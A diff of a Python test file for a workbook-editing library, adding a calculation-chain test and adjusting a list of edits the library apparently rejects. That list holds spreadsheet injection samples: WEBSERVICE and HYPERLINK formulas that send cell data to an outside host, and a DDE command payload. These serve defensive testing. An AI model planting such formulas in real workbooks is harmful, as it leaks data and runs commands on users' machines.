@@ -1,6 +1,7 @@
 """An edit of a workbook changes what it names, and nothing else."""
 
 import datetime
+import re
 import zipfile
 
 import openpyxl
@@ -204,6 +205,17 @@ def test_an_overwritten_formula_leaves_the_order_of_calculation(documents, real_
     assert changed_parts(source, target) == {"xl/calcChain.xml", "xl/worksheets/sheet1.xml"}
 
 
+def test_rows_that_move_between_do_not_mix_up_the_order_of_calculation(documents, real_files, tmp_path):
+    """The formula of K4 went, and what stands in K4 afterwards is another one."""
+    source, target = next(path for path in real_files if path.name.startswith("ironcalc-NPV")), tmp_path / "out.xlsx"
+    ops = [{"op": "set_cells", "cells": {"K4": 1}}, {"op": "insert_rows", "at": 1, "count": 1}]
+    documents.edit(source, ops, target)
+    with zipfile.ZipFile(target) as new:
+        chain, sheet = new.read("xl/calcChain.xml"), new.read("xl/worksheets/sheet1.xml")
+    named = set(re.findall(rb'<c r="(\w+)"', chain))
+    assert named == set(re.findall(rb'<c r="(\w+)"[^>]*><f', sheet))
+
+
 def test_a_workbook_whose_last_formula_goes_has_no_order_of_calculation_any_more(documents, real_files, tmp_path):
     """An empty one is not allowed."""
     source = next(path for path in real_files if path.name.startswith("oxsdk-ExternalLink"))
@@ -227,7 +239,7 @@ def test_the_workbook_asks_to_be_computed_when_results_may_be_old(documents, sal
     [
         {"op": "set_cells", "sheet": "More", "cells": {"A2": 1}},  # in an array formula
         {"op": "set_cells", "sheet": "More", "cells": {"D2": 1}},  # covered by merged cells
-        {"op": "set_cells", "cells": {"B1": "Client"}},  # a title of a table
+        {"op": "set_cells", "cells": {"B1": 12}},  # a title of a table is a text
         {"op": "set_cells", "sheet": "Nowhere", "cells": {"A1": 1}},
         {"op": "set_cells", "cells": {"XFE1": 1}},
         {"op": "set_cells", "cells": {"A0": 1}},
@@ -240,9 +252,9 @@ def test_the_workbook_asks_to_be_computed_when_results_may_be_old(documents, sal
         {"op": "set_cells", "cells": {"A9": '=WEBSERVICE("http://example.com/"&A1)'}},
         {"op": "set_cells", "cells": {"A9": "=cmd|'/C calc'!A0"}},
         {"op": "set_cells", "cells": {"A9": '=HYPERLINK("http://example.com/"&A1,"x")'}},
-        {"op": "set_cells", "cells": {"A9": "=SORT(A1:A3)"}},
+        {"op": "set_cells", "cells": {"A2": "=SORT(E1:E3)"}},  # may grow, in a table
         {"op": "set_cells", "cells": {"A9": "='[other.xlsx]S'!A1"}},
-        {"op": "append_rows", "sheet": "Other", "rows": [[1]]},  # below totals
+        {"op": "set_cells", "cells": {"A1:Z9000": 1}},
         {"op": "append_rows", "rows": [[1, 2, 3, 4, 5, 6]]},  # wider than the table
         {"op": "append_rows", "rows": [1]},
         {"op": "add_sheet", "name": "other"},
